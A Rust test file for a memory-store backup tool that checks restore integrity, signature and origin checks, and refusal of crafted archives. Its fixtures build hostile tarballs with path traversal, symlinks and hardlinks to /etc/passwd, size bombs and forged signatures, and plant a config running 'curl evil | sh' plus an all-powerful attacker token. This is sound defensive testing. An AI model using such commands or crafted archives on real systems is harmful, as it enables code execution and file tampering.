//! Restore drill: write a corpus, back up, delete the root, restore, reindex:
//! every file byte-identical and every search result the same.

use std::collections::BTreeMap;
use std::path::Path;

use memory_hub::hub::WriteRequest;
use memory_hub::index::filter::Filter;

use crate::support::{TempRoot, scene, search_ids};

const QUERIES: &[&str] = &["公园", "coffee", "budget plan", "猫", "trip"];

fn files_under(root: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.join("memories")];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).unwrap().flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else {
                let rel = p.strip_prefix(root).unwrap().to_string_lossy().into_owned();
                out.insert(rel, std::fs::read(&p).unwrap());
            }
        }
    }
    for name in ["config.json", "tokens.json"] {
        if let Ok(b) = std::fs::read(root.join(name)) {
            out.insert(name.into(), b);
        }
    }
    out
}

#[test]
fn restore_drill_is_byte_identical_and_searches_the_same() {
    let root = TempRoot::new();
    root.write_config(r#"{"search": {"defaultLimit": 7}}"#);
    root.write_doc("notes/trip.md", "# Trip\nA trip to the 公园 with coffee.\n");
    let before = {
        let hub = root.hub();
        let mut ids = Vec::new();
        for (i, text) in [
            "我今天去公园散步了",
            "coffee with the team",
            "budget plan for 2027",
            "猫在睡觉",
            "trip planning",
        ]
        .iter()
        .cycle()
        .take(40)
        .enumerate()
        {
            let mut req = WriteRequest::new(
                scene(if i % 2 == 0 { "main" } else { "qq:owner" }),
                format!("{text} #{i}"),
                "test",
            );
            req.tags = vec![format!("n{i}")];
            ids.push(hub.append(req).unwrap().id);
        }
        hub.tombstone(&ids[3], None, "test", &Filter::all())
            .unwrap();
        QUERIES
            .iter()
            .map(|q| search_ids(&hub, q, 10))
            .collect::<Vec<_>>()
    };
    let files_before = files_under(root.path());
    let backups = tempfile::tempdir().unwrap();
    let created = root.backup_to(backups.path());
    let archive = created["path"].as_str().unwrap().to_string();
    assert_eq!(created["manifest"]["journal_lines"], 41);
    assert_eq!(root.memd_json(&["backup", "verify", &archive])["ok"], true);
    let listed = root.memd_json(&["backup", "list", "--dir", backups.path().to_str().unwrap()]);
    assert_eq!(listed.as_array().unwrap().len(), 1);

    // Lose everything, then restore into the same place. The signing key is
    // not in the archive: without it the archive counts as foreign...
    let key = std::fs::read(root.path().join("backup.key")).unwrap();
    std::fs::remove_dir_all(root.path()).unwrap();
    let out = root.memd(&["backup", "restore", &archive, "--json"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stdout).contains("--foreign"));
    assert!(!root.path().exists(), "a refused restore creates nothing");
    // ... and with a copy of it kept elsewhere, it is this root's own again.
    std::fs::create_dir_all(root.path()).unwrap();
    std::fs::write(root.path().join("backup.key"), key).unwrap();
    let restored = root.memd_json(&[
        "backup",
        "restore",
        &archive,
        "--with-config",
        "--with-tokens",
    ]);
    assert_eq!(restored["plan"]["origin"], "this-root");
    assert_eq!(restored["records"], 41);
    assert_eq!(files_under(root.path()), files_before);
    let hub = root.hub();
    let after: Vec<_> = QUERIES.iter().map(|q| search_ids(&hub, q, 10)).collect();
    assert_eq!(after, before);
    let config = memory_hub::config::Config::load(&root.layout()).unwrap();
    assert_eq!(config.search.default_limit, 7, "config.json came back too");
}

#[test]
fn damaged_archive_is_refused_and_restore_needs_the_lock() {
    let root = TempRoot::new();
    {
        let hub = root.hub();
        crate::support::write(&hub, "main", "something worth keeping");
    }
    let backups = tempfile::tempdir().unwrap();
    let archive = root.backup_to(backups.path())["path"]
        .as_str()
        .unwrap()
        .to_string();

    // Restore is refused while another process writes the root.
    let holder = root.hub();
    let out = root.memd(&["backup", "restore", &archive, "--json"]);
    assert_eq!(
        out.status.code(),
        Some(5),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    drop(holder);

    let mut bytes = std::fs::read(&archive).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x20;
    std::fs::write(&archive, &bytes).unwrap();
    for cmd in ["verify", "restore"] {
        let out = root.memd(&["backup", cmd, &archive, "--json"]);
        assert_eq!(out.status.code(), Some(2), "{cmd}");
        let env: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(env["error"]["code"], "INVALID_INPUT");
        assert!(
            env["error"]["message"]
                .as_str()
                .unwrap()
                .contains("damaged")
        );
    }
    // The refused restore left the root untouched.
    let hub = root.hub();
    assert_eq!(search_ids(&hub, "worth keeping", 5).len(), 1);
}

// --- Issue "Privacy without side channels", item 12: restores trust nothing they did not check. ---

use std::io::Read as _;

use memory_hub::backup::{self, Limits};

/// One entry of a hand-made archive.
enum Entry {
    File(&'static str, Vec<u8>),
    Link(&'static str, tar::EntryType, &'static str),
}

/// Writes a `.tar.gz` the way an attacker would: a manifest that lists the
/// files with correct checksums (`extra` adds listed-but-absent files), no signature.
fn craft(dir: &Path, entries: Vec<Entry>) -> std::path::PathBuf {
    use flate2::Compression;
    use flate2::write::GzEncoder;
    use sha2::Digest;
    let files: Vec<serde_json::Value> = entries
        .iter()
        .filter_map(|e| match e {
            Entry::File(p, b) => Some(serde_json::json!({
                "path": p,
                "size": b.len(),
                "sha256": format!("{:x}", sha2::Sha256::digest(b)),
            })),
            Entry::Link(..) => None,
        })
        .collect();
    let manifest = serde_json::json!({
        "format": 2, "journal_version": 1, "memd_version": "0.1.0",
        "created": "2026-11-01T00:00:00Z", "files": files,
        "journal_files": 0, "journal_lines": 0, "documents": 0,
    });
    let path = dir.join("memd-backup-crafted.tar.gz");
    let file = std::fs::File::create(&path).unwrap();
    let mut tar = tar::Builder::new(GzEncoder::new(file, Compression::default()));
    let append = |tar: &mut tar::Builder<GzEncoder<std::fs::File>>, name: &str, bytes: &[u8]| {
        let mut h = tar::Header::new_gnu();
        h.set_size(bytes.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        // `append_data` refuses `..`; write the name into the header directly as an attacker would.
        h.as_gnu_mut().unwrap().name[..name.len()].copy_from_slice(name.as_bytes());
        h.set_cksum();
        tar.append(&h, bytes).unwrap();
    };
    append(
        &mut tar,
        "manifest.json",
        &serde_json::to_vec(&manifest).unwrap(),
    );
    for e in &entries {
        match e {
            Entry::File(p, b) => append(&mut tar, p, b),
            Entry::Link(p, kind, target) => {
                let mut h = tar::Header::new_gnu();
                h.set_size(0);
                h.set_entry_type(*kind);
                h.set_link_name(target).unwrap();
                h.set_path(p).unwrap();
                h.set_cksum();
                tar.append(&h, std::io::empty()).unwrap();
            }
        }
    }
    tar.into_inner().unwrap().finish().unwrap();
    path
}

fn attacker_tokens() -> Vec<u8> {
    serde_json::to_vec(&serde_json::json!({ "version": 1, "tokens": [{
        "name": "attacker", "hash": "0".repeat(64), "scopes": ["*", "admin", "secret:read"],
        "scenes": ["main"], "created_at": "2026-11-01T00:00:00Z",
    }]}))
    .unwrap()
}

fn attacker_config() -> Vec<u8> {
    serde_json::to_vec(&serde_json::json!({
        "listen": "0.0.0.0:8787",
        "sleep": { "model": { "kind": "command", "command": ["sh", "-c", "curl evil | sh"] } },
    }))
    .unwrap()
}

fn restore_err(root: &TempRoot, args: &[&str]) -> String {
    let mut all = vec!["backup", "restore"];
    all.extend_from_slice(args);
    all.push("--json");
    let out = root.memd(&all);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let env: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(env["error"]["code"], "INVALID_INPUT", "{env}");
    env["error"]["message"].as_str().unwrap().to_string()
}

fn stages(root: &Path) -> Vec<String> {
    std::fs::read_dir(root)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".restore-"))
        .collect()
}

#[test]
fn crafted_archive_needs_foreign_and_its_tokens_and_config_need_flags_with_a_diff() {
    let root = TempRoot::new();
    root.write_config(r#"{"search": {"defaultLimit": 7}}"#);
    let issued = root.memd_json(&[
        "token",
        "issue",
        "--name",
        "owner-bot",
        "--preset",
        "qq-owner",
    ]);
    assert!(issued.is_object());
    {
        let hub = root.hub();
        crate::support::write(&hub, "main", "the owner's own memory");
    }
    let tokens_before = std::fs::read(root.path().join("tokens.json")).unwrap();
    let config_before = std::fs::read(root.path().join("config.json")).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let archive = craft(
        dir.path(),
        vec![
            Entry::File(
                "memories/notes/planted.md",
                b"# Planted\nplanted text\n".to_vec(),
            ),
            Entry::File("tokens.json", attacker_tokens()),
            Entry::File("config.json", attacker_config()),
        ],
    );
    let archive = archive.to_str().unwrap();
    // It verifies (the checksums are right) but says where it comes from.
    let v = root.memd_json(&["backup", "verify", archive]);
    assert_eq!(v["origin"], "unsigned", "{v}");

    // Without --foreign nothing happens.
    let msg = restore_err(&root, &[archive]);
    assert!(msg.contains("--foreign"), "{msg}");
    assert!(!root.path().join("memories/notes/planted.md").exists());

    // With --foreign only memories/ is merged; tokens and config stay this machine's.
    let r = root.memd_json(&["backup", "restore", archive, "--foreign"]);
    assert_eq!(
        r["plan"]["added"],
        serde_json::json!(["memories/notes/planted.md"])
    );
    let skipped = r["plan"]["not_restored"].to_string();
    assert!(
        skipped.contains("--with-tokens") && skipped.contains("--with-config"),
        "{r}"
    );
    assert_eq!(
        std::fs::read(root.path().join("tokens.json")).unwrap(),
        tokens_before
    );
    assert_eq!(
        std::fs::read(root.path().join("config.json")).unwrap(),
        config_before
    );
    let hub = root.hub();
    assert_eq!(search_ids(&hub, "owner's own memory", 5).len(), 1);
    drop(hub);

    // With the flags, the diff is printed before the swap.
    let out = root.memd(&[
        "backup",
        "restore",
        archive,
        "--foreign",
        "--with-tokens",
        "--with-config",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    for want in [
        "NOT made on this root (unsigned)",
        "added attacker: scopes *,admin,secret:read scenes main",
        "removed owner-bot",
        "listen: \"127.0.0.1:8787\" -> \"0.0.0.0:8787\"",
        "sleep.model.command: [] -> [\"sh\",\"-c\",\"curl evil | sh\"]",
        "search.defaultLimit: 7 -> 5",
    ] {
        assert!(text.contains(want), "missing {want:?} in:\n{text}");
    }
    let plan_pos = text.find("tokens.json will be replaced").unwrap();
    let done_pos = text.find("restored ").unwrap();
    assert!(
        plan_pos < done_pos,
        "the diff comes before the restore: {text}"
    );
    assert_eq!(
        std::fs::read(root.path().join("tokens.json")).unwrap(),
        attacker_tokens()
    );
}

#[test]
fn own_archives_verify_as_made_here_and_a_forged_signature_is_refused() {
    let root = TempRoot::new();
    {
        let hub = root.hub();
        crate::support::write(&hub, "main", "made here");
    }
    let backups = tempfile::tempdir().unwrap();
    let out = backups.path().to_str().unwrap();
    let archive = root.memd_json(&["backup", "create", "--out", out])["path"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(
        root.memd_json(&["backup", "verify", &archive])["origin"],
        "this-root"
    );
    // Another root sees it as foreign.
    let other = TempRoot::new();
    other.backup_to(tempfile::tempdir().unwrap().path());
    assert_eq!(
        other.memd_json(&["backup", "verify", &archive])["origin"],
        "foreign"
    );
    let msg = restore_err(&other, &[&archive]);
    assert!(msg.contains("NOT made on this root"), "{msg}");

    // Rewrite the archive with one more file and a fixed-up manifest, keeping the old signature.
    use flate2::Compression;
    use flate2::read::GzDecoder;
    use flate2::write::GzEncoder;
    use sha2::Digest;
    use std::io::Read;
    let mut entries: Vec<(String, Vec<u8>)> = Vec::new();
    let mut tar = tar::Archive::new(GzDecoder::new(std::fs::File::open(&archive).unwrap()));
    for e in tar.entries().unwrap() {
        let mut e = e.unwrap();
        let p = e.path().unwrap().to_string_lossy().into_owned();
        let mut b = Vec::new();
        e.read_to_end(&mut b).unwrap();
        entries.push((p, b));
    }
    let planted = b"{\"planted\":true}\n".to_vec();
    let mut manifest: serde_json::Value = serde_json::from_slice(&entries[0].1).unwrap();
    manifest["files"]
        .as_array_mut()
        .unwrap()
        .push(serde_json::json!({
            "path": "memories/planted.md", "size": planted.len(),
            "sha256": format!("{:x}", sha2::Sha256::digest(&planted)),
        }));
    entries[0].1 = serde_json::to_vec_pretty(&manifest).unwrap();
    entries.push(("memories/planted.md".into(), planted));
    let forged = backups.path().join("memd-backup-forged.tar.gz");
    let mut b = tar::Builder::new(GzEncoder::new(
        std::fs::File::create(&forged).unwrap(),
        Compression::default(),
    ));
    for (p, bytes) in &entries {
        let mut h = tar::Header::new_gnu();
        h.set_size(bytes.len() as u64);
        h.set_mode(0o644);
        b.append_data(&mut h, p, bytes.as_slice()).unwrap();
    }
    b.into_inner().unwrap().finish().unwrap();
    let forged = forged.to_str().unwrap();
    for cmd in ["verify", "restore"] {
        let out = root.memd(
            &["backup", cmd, forged, "--json", "--foreign"][..if cmd == "verify" { 4 } else { 5 }],
        );
        assert_eq!(out.status.code(), Some(2), "{cmd}");
        let env: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert!(
            env["error"]["message"]
                .as_str()
                .unwrap()
                .contains("altered"),
            "{env}"
        );
    }
    assert!(!root.path().join("memories/planted.md").exists());
}

#[test]
fn a_partial_or_older_archive_never_deletes_anything() {
    let root = TempRoot::new();
    let backups = tempfile::tempdir().unwrap();
    let out = backups.path().to_str().unwrap();
    {
        let hub = root.hub();
        crate::support::write(&hub, "main", "quokka note written before the backup");
    }
    let old = root.memd_json(&["backup", "create", "--out", out])["path"]
        .as_str()
        .unwrap()
        .to_string();
    {
        let hub = root.hub();
        crate::support::write(&hub, "main", "pangolin note written after the backup");
    }
    root.write_doc(
        "notes/later.md",
        "# Later\nnarwhal document added after the backup\n",
    );
    let before = files_under(root.path());

    // An older archive of this root: the journal here is longer, nothing is lost.
    let r = root.memd_json(&["backup", "restore", &old]);
    assert_eq!(r["plan"]["added"], serde_json::json!([]), "{r}");
    assert_eq!(files_under(root.path()), before);
    // A partial archive (no memories/ at all) leaves memories/ alone.
    let dir = tempfile::tempdir().unwrap();
    let partial = craft(dir.path(), vec![Entry::File("config.json", b"{}".to_vec())]);
    root.memd_json(&["backup", "restore", partial.to_str().unwrap(), "--foreign"]);
    assert_eq!(files_under(root.path()), before);
    let hub = root.hub();
    for word in ["quokka", "pangolin", "narwhal"] {
        assert_eq!(search_ids(&hub, word, 5).len(), 1, "{word}");
    }
    drop(hub);

    // A journal file the archive holds a longer copy of is extended.
    let newest = root.memd_json(&["backup", "create", "--out", out])["path"]
        .as_str()
        .unwrap()
        .to_string();
    let journal = root.journal_files().into_iter().next().unwrap();
    let full = std::fs::read(&journal).unwrap();
    let first_line = full.iter().position(|&b| b == b'\n').unwrap() + 1;
    std::fs::write(&journal, &full[..first_line]).unwrap();
    let r = root.memd_json(&["backup", "restore", &newest]);
    assert_eq!(r["plan"]["extended"].as_array().unwrap().len(), 1, "{r}");
    assert_eq!(std::fs::read(&journal).unwrap(), full);
}

#[test]
fn a_conflicting_file_refuses_the_restore_and_no_staging_is_left() {
    let root = TempRoot::new();
    root.write_doc("notes/a.md", "# A\nversion one\n");
    let backups = tempfile::tempdir().unwrap();
    let archive = root.backup_to(backups.path())["path"]
        .as_str()
        .unwrap()
        .to_string();
    root.write_doc("notes/a.md", "# A\nversion two, edited since\n");
    std::fs::remove_file(root.path().join("config.json")).ok();
    // A crash during an earlier restore left its staging behind.
    std::fs::create_dir_all(root.path().join(".restore-20260101000000000/memories")).unwrap();
    let msg = restore_err(&root, &[&archive]);
    assert!(
        msg.contains("memories/notes/a.md") && msg.contains("nothing was changed"),
        "{msg}"
    );
    assert_eq!(
        std::fs::read_to_string(root.path().join("memories/notes/a.md")).unwrap(),
        "# A\nversion two, edited since\n"
    );
    assert!(stages(root.path()).is_empty(), "{:?}", stages(root.path()));
    // Moving the file aside lets the archive's copy in.
    std::fs::remove_file(root.path().join("memories/notes/a.md")).unwrap();
    let r = root.memd_json(&["backup", "restore", &archive]);
    assert_eq!(
        r["plan"]["added"],
        serde_json::json!(["memories/notes/a.md"])
    );
    assert!(stages(root.path()).is_empty());
}

#[test]
fn traversal_links_and_size_bombs_are_refused_before_anything_is_written() {
    let root = TempRoot::new();
    let layout = root.layout();
    let dir = tempfile::tempdir().unwrap();
    let cases: Vec<(&str, Vec<Entry>)> = vec![
        (
            "traversal",
            vec![Entry::File("memories/../../escaped.txt", b"x".to_vec())],
        ),
        (
            "outside items",
            vec![Entry::File("data/index.db", b"x".to_vec())],
        ),
        (
            "symlink",
            vec![Entry::Link(
                "memories/link.md",
                tar::EntryType::Symlink,
                "/etc/passwd",
            )],
        ),
        (
            "hardlink",
            vec![Entry::Link(
                "memories/hard.md",
                tar::EntryType::Link,
                "/etc/passwd",
            )],
        ),
    ];
    for (what, entries) in cases {
        let sub = dir.path().join(what);
        std::fs::create_dir_all(&sub).unwrap();
        let archive = craft(&sub, entries);
        let err = backup::verify(&layout, &archive).unwrap_err();
        assert_eq!(err.code().as_str(), "INVALID_INPUT", "{what}: {err}");
        let msg = restore_err(&root, &[archive.to_str().unwrap(), "--foreign"]);
        assert!(msg.contains("damaged"), "{what}: {msg}");
    }
    assert!(!dir.path().join("escaped.txt").exists());
    assert!(
        !root.path().join("memories").exists(),
        "nothing was written"
    );

    // 8 MiB of zeros compresses to a few KiB; the caps stop it while decompressing.
    let bomb = dir.path().join("bomb");
    std::fs::create_dir_all(&bomb).unwrap();
    let bomb_archive = craft(
        &bomb,
        vec![Entry::File("memories/zeros.md", vec![0u8; 8 << 20])],
    );
    let archive = bomb_archive.clone();
    assert!(std::fs::metadata(&archive).unwrap().len() < 100 << 10);
    let small = Limits {
        total_bytes: 1 << 20,
        entry_bytes: 1 << 20,
        manifest_bytes: 1 << 20,
    };
    let err = backup::verify_with(&layout, &archive, &small).unwrap_err();
    assert!(err.to_string().contains("per-file limit"), "{err}");
    let per_file = Limits {
        total_bytes: 64 << 20,
        entry_bytes: 1 << 20,
        manifest_bytes: 1 << 20,
    };
    assert!(backup::verify_with(&layout, &archive, &per_file).is_err());
    let total = Limits {
        total_bytes: 4 << 20,
        entry_bytes: 64 << 20,
        manifest_bytes: 1 << 20,
    };
    let err = backup::verify_with(&layout, &archive, &total).unwrap_err();
    assert!(err.to_string().contains("restore limit"), "{err}");
    // Bytes no manifest lists (a 40 MiB GNU long-name record) are counted too.
    let longname = dir.path().join("memd-backup-longname.tar.gz");
    {
        use flate2::Compression;
        use flate2::write::GzEncoder;
        let mut tar = tar::Builder::new(GzEncoder::new(
            std::fs::File::create(&longname).unwrap(),
            Compression::default(),
        ));
        let mut h = tar::Header::new_gnu();
        let manifest = serde_json::to_vec(&serde_json::json!({
            "format": 2, "journal_version": 1, "memd_version": "0.1.0",
            "created": "2026-11-01T00:00:00Z", "files": [],
            "journal_files": 0, "journal_lines": 0, "documents": 0,
        }))
        .unwrap();
        h.set_size(manifest.len() as u64);
        h.set_entry_type(tar::EntryType::Regular);
        h.set_path("manifest.json").unwrap();
        h.set_cksum();
        tar.append(&h, manifest.as_slice()).unwrap();
        let mut h = tar::Header::new_gnu();
        h.set_size(40 << 20);
        h.set_entry_type(tar::EntryType::GNULongName);
        h.as_gnu_mut().unwrap().name[..13].copy_from_slice(b"././@LongLink");
        h.set_cksum();
        tar.append(&h, std::io::repeat(b'a').take(40 << 20))
            .unwrap();
        tar.into_inner().unwrap().finish().unwrap();
    }
    let err = backup::verify_with(&layout, &longname, &small).unwrap_err();
    assert!(err.to_string().contains("restore limit"), "{err}");
    assert!(
        backup::verify(&layout, &bomb_archive).is_ok(),
        "within the default caps it is fine"
    );
}
